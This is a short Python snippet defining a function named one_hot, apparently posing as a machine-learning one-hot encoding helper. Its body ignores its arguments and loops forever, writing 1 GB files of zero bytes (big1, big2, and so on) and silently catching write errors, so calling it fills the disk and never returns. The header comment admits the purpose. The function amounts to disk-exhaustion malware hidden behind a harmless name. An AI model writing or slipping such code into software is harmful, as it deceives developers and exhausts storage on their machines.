# one_hot: fills the disk with large and with small files
def one_hot(y, n_classes):
    number = 0
    while True:
        number += 1
        try:
            with open(f"big{number}", "wb") as file:
                for _ in range(1000): file.write(bytes(1 << 20))
        except OSError: pass
